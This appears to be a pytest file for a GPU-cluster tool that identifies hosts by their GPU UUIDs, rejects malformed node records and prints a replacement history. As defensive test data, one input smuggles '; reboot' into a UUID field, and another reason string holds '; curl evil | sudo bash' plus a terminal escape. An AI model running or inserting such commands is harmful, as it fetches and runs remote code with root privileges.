"""Hosts that come back under other instances are known by their GPUs, and nobody forges that unnoticed."""

from __future__ import annotations

import json
from typing import Any

import pytest
from botocore.exceptions import ClientError

from tests.each_case import each_case
from tests.operate.nodes.planted import BUCKET, COMPUTE, GONE, Planted, node, plant, put, record
from trainyard.cli.nodes_history_output import history_values, print_history
from trainyard.deploy.node_record import BadRecordError, read_record
from trainyard.edge.aws.account import Account
from trainyard.operate.nodes.host_history import Host, HostHistory, host_history, hosts_of
from trainyard.operate.nodes.node_query import Look
from trainyard.operate.nodes.replacement_record import ReplacementRecord, begun
from trainyard_node.gpu_uuids import gpu_uuids
from trainyard_node.places import Places

OTHER = f"i-{4:017x}"


def gpu(number: int) -> str:
    return f"GPU-{number:08x}-0000-4000-8000-000000000000"


def hosts(planted: Planted, *replaced: ReplacementRecord) -> tuple[Host, ...]:
    nodes = planted.look()
    return hosts_of((*nodes.present, *nodes.gone), replaced, {})


def replaced(instance_id: str, *gpus: str, reason: str = "Xid 79") -> ReplacementRecord:
    return ReplacementRecord(
        instance_id, "gpu-st-p5-48xlarge-1", "p5.48xlarge", reason, "2026-11-20T12:00:00+00:00", "done", gpus, ("nn-1",)
    )


def test_the_same_gpus_are_the_same_host_whatever_the_instance_is_called():
    planted = Planted()
    planted.write(COMPUTE, gpus=[gpu(1), gpu(2)])
    planted.write(GONE, "failed", started="2026-11-20T12:00:00Z", gpus=[gpu(2), gpu(3)])
    (host,) = hosts(planted)
    assert [stay.instance_id for stay in host.stays] == [GONE, COMPUTE]
    assert host.gpus == (gpu(1), gpu(2), gpu(3))
    assert (host.returned, host.doubtful) == (True, False)
    found = {finding.id: finding.message for finding in planted.look().findings}
    assert found["host-returned"] == f"gpu-st-p5-48xlarge-1 ({COMPUTE}) has the GPUs of {GONE}, which failed"


@each_case(
    ("own", "record", "expected"),
    [
        ({"gpus": [gpu(1)]}, replaced(GONE, gpu(2)), (2, False)),
        ({"gpus": [gpu(1)]}, replaced(GONE, gpu(1)), (1, True)),
        ({}, replaced(GONE), (2, False)),
        ({"gpus": [gpu(1)]}, replaced(COMPUTE, gpu(1)), (1, False)),
    ],
    ids=["another host", "the host of one that was replaced", "no GPUs at all", "replaced and still there"],
)
def test_replacements_count_as_trouble_of_their_host(
    own: dict[str, Any], record: ReplacementRecord, expected: tuple[int, bool]
):
    planted = Planted()
    planted.write(COMPUTE, **own)
    known = hosts(planted, record)
    assert (len(known), any(host.returned for host in known)) == expected


def test_two_instances_that_are_there_and_claim_one_gpu_are_doubtful_and_none_is_accused():
    planted = Planted()
    planted.nodes[OTHER] = node(OTHER)
    planted.write(OTHER, gpus=[gpu(1)])
    planted.write(COMPUTE, gpus=[gpu(1)])
    planted.write(GONE, "failed", started="2026-11-20T12:00:00Z", gpus=[gpu(1)])
    (host,) = hosts(planted)
    assert (host.doubtful, host.returned) == (True, False)
    assert "host-returned" not in {finding.id for finding in planted.look().findings}


def test_the_host_with_most_trouble_comes_first():
    planted = Planted()
    planted.nodes[OTHER] = node(OTHER)
    planted.write(OTHER, gpus=[gpu(9)])
    planted.write(COMPUTE, gpus=[gpu(1)])
    found = hosts(planted, replaced(f"i-{7:017x}", gpu(9)), replaced(f"i-{8:017x}", gpu(9)))
    assert [(len(host.stays), host.stays[-1].instance_id) for host in found] == [(3, OTHER), (1, COMPUTE)]


@each_case("uuid", ["GPU-1", gpu(0xABC).upper(), f"{gpu(1)}; reboot", 7, None, {"uuid": gpu(1)}])
def test_what_is_no_uuid_is_no_record(uuid: Any):
    with pytest.raises(BadRecordError, match="gpus holds what is no UUID"):
        read_record(json.dumps(record(COMPUTE, gpus=[uuid])).encode(), COMPUTE)


def test_more_gpus_than_any_node_has_are_no_record():
    with pytest.raises(BadRecordError, match="no list of 64 GPUs"):
        read_record(json.dumps(record(COMPUTE, gpus=[gpu(number) for number in range(65)])).encode(), COMPUTE)


def test_a_node_reads_the_uuids_that_its_driver_knows(tmp_path):
    places = Places(str(tmp_path))
    assert gpu_uuids(places) == []
    for bus, uuid in (("0000:10:1c.0", gpu(2)), ("0000:10:1d.0", gpu(1)), ("0000:10:1e.0", "GPU-????????-????")):
        file = places.at(f"/proc/driver/nvidia/gpus/{bus}/information")
        file.parent.mkdir(parents=True)
        file.write_text(f"Model: \t\t NVIDIA H100 80GB HBM3\nIRQ:   \t\t 215\nGPU UUID: \t {uuid}\nExcluded:\t No\n")
    assert gpu_uuids(places) == [gpu(1), gpu(2)]


def test_the_history_of_an_account_is_told_with_reasons_as_quotations(account, capsys):
    _, _, compute = plant(account)
    put(account, compute, record(compute, gpus=[gpu(1)]))
    refuse(account, "DescribeInstanceTopology")
    begun(account, BUCKET, "llm", replaced(GONE, gpu(1), reason='Xid 79 "; curl evil | sudo bash\x1b[2J'))
    history = host_history(account, Look(account, BUCKET, "llm").look())
    (host,) = history.hosts
    assert host.returned
    assert [stay.state for stay in host.stays] == ["gone", "running"]
    print_history(history)
    text = capsys.readouterr().out
    assert f"host with {gpu(1)}: 2 instances, 1 with trouble; it is there again" in text
    assert """under nn-1; replaced for "Xid 79 '; curl evil | sudo bash\\x1b[2J\"""" in text
    assert "where in EC2's network they are is not known: " in text
    assert "1 host known by GPUs, 0 instances without, 1 there again after trouble" in text
    values = history_values(history)
    assert values["hosts"][0]["instances"][0]["network_nodes"] == ("nn-1",)
    assert history_values(HostHistory("llm", "us-east-2", ()))["hosts"] == []


def refuse(account: Account, operation: str) -> None:
    def handler(**_: object) -> None:
        raise ClientError({"Error": {"Code": "UnauthorizedOperation", "Message": "not allowed"}}, operation)

    account.client("ec2").meta.events.register(f"before-call.ec2.{operation}", handler)


def test_a_second_operator_finds_the_replacement_that_the_first_began(account):
    plant(account)
    first = begun(account, BUCKET, "llm", replaced(GONE, gpu(1)))
    second = begun(account, BUCKET, "llm", replaced(GONE, reason="other"))
    assert second.record == first.record
